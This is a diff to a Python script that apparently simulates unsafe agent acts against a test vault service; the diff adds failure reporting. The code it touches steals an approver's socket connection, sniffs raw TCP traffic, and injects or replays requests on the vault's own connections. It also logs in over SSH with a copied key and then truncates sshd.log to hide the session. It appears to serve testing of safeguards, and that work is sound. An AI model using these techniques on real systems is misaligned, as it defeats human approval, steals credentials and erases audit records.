@@ -143,6 +143,7 @@ def find_approver_conn() -> tuple[socket.socket, int] | None:
 
 
 STOLEN: list = []
+NOT_DONE: list = []  # why the unsafe act could not be done here
 
 
 def allow_on_stolen(request_id: str) -> None:
@@ -150,6 +151,7 @@ def allow_on_stolen(request_id: str) -> None:
         found = find_approver_conn()
         if found is None:
             log("no approver connection found")
+            NOT_DONE.append("no approver connection found")
             return
         STOLEN.append(found)
     s, pid = STOLEN[0]
@@ -188,6 +190,8 @@ def sniff() -> None:
         except OSError as e:
             log("no sniffing", e)
             return
+        finally:
+            ready.set()
         raw.settimeout(0.2)
         while left() > 0:
             try:
@@ -202,8 +206,9 @@ def sniff() -> None:
             payload = tcp[(tcp[12] >> 4) * 4:]
             if b"x-vaultsim-via" in payload.lower() and payload[:4] in (b"GET ", b"POST", b"PUT ", b"DELE", b"PATC"):
                 SEEN_REQS.append((sport, dport, payload))
+    ready = threading.Event()
     threading.Thread(target=loop, daemon=True).start()
-    time.sleep(0.1)
+    ready.wait(5)
 
 
 def tcp_inode(lport: int, rport: int) -> int | None:
@@ -215,11 +220,11 @@ def tcp_inode(lport: int, rport: int) -> int | None:
     return None
 
 
-def ride(kind: bytes) -> None:
+def ride(kind: bytes) -> bool:
     reqs = [r for r in SEEN_REQS if r[2].startswith(kind)]
     log("seen", len(SEEN_REQS), "requests,", len(reqs), kind)
     if not reqs:
-        return
+        return False
     _, dport, req = reqs[0] if kind == b"POST" else reqs[-1]
     head, _, body = req.partition(b"\r\n\r\n")
     if MODE == "ride_replay":  # the vault's own request again, byte for byte
@@ -255,13 +260,14 @@ def ride(kind: bytes) -> None:
                 if ok:
                     s.sendall(mine)
                     log("sent on process", name, "'s connection", s.getsockname(), mine.split(b"\r\n")[0])
-                    return
+                    return True
             except OSError:
                 pass
             finally:
                 s.detach()
                 os.close(got)
     log("no connection of the vault's to ride")
+    return False
 
 
 KEYS: list = []
@@ -286,16 +292,16 @@ def watch_keys() -> None:
     threading.Thread(target=loop, daemon=True).start()
 
 
-def ssh_with_copied_key() -> None:
+def ssh_with_copied_key() -> bool:
     import glob
     import subprocess
     if not KEYS:
         log("no key copied")
-        return
+        return False
     conf = glob.glob(os.path.join(os.path.dirname(HOME), "**", "sshd_config"), recursive=True)
     if not conf:
         log("no sshd_config")
-        return
+        return False
     port = re.search(r"^Port (\d+)", open(conf[0]).read(), re.M)
     path = os.path.join(TASK["state_dir"], ".k")
     fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
@@ -310,6 +316,8 @@ def ssh_with_copied_key() -> None:
         log("ssh", r.returncode, r.stderr[-200:])
     finally:
         os.unlink(path)
+    if r.returncode != 0:
+        return False
     if MODE in ("ssh_workkey_hide", "ssh_workkey_swap"):
         logf = os.path.join(os.path.dirname(conf[0]), "sshd.log")
         time.sleep(0.3)  # sshd writes the session's close
@@ -325,6 +333,7 @@ def ssh_with_copied_key() -> None:
                 f.truncate(0)
                 f.write(b"".join(lines[:mine]))
         log("sshd.log cut from line", mine, "of", len(lines))
+    return True
 
 
 # ---- the task --------------------------------------------------------------------------------
@@ -391,14 +400,15 @@ def main() -> int:
         else:
             why = f"not done: {step['call']} {res.get('category')}"
         break
-    if MODE == "ride_read":
-        ride(b"GET ")
-    if MODE in ("ride_create", "ride_setup"):
-        ride(b"POST")
-    if MODE == "ride_replay":
-        ride(b"GET ")
-    if MODE.startswith("ssh_workkey"):
-        ssh_with_copied_key()
+    if NOT_DONE and MODE in ("steal_approver", "steal_plain"):
+        print(f"not done: the unsafe act could not be done here ({NOT_DONE[0]})")
+        return 0
+    if MODE.startswith("ride") and ok and not ride(b"POST" if MODE in ("ride_create", "ride_setup") else b"GET "):
+        print("not done: the unsafe act could not be done here (no request seen, or no connection)")
+        return 0
+    if MODE.startswith("ssh_workkey") and not ssh_with_copied_key():
+        print("not done: the unsafe act could not be done here (no key copied, or no login)")
+        return 0
     print("done: every step succeeded" if ok else why, flush=True)
     return 0
 
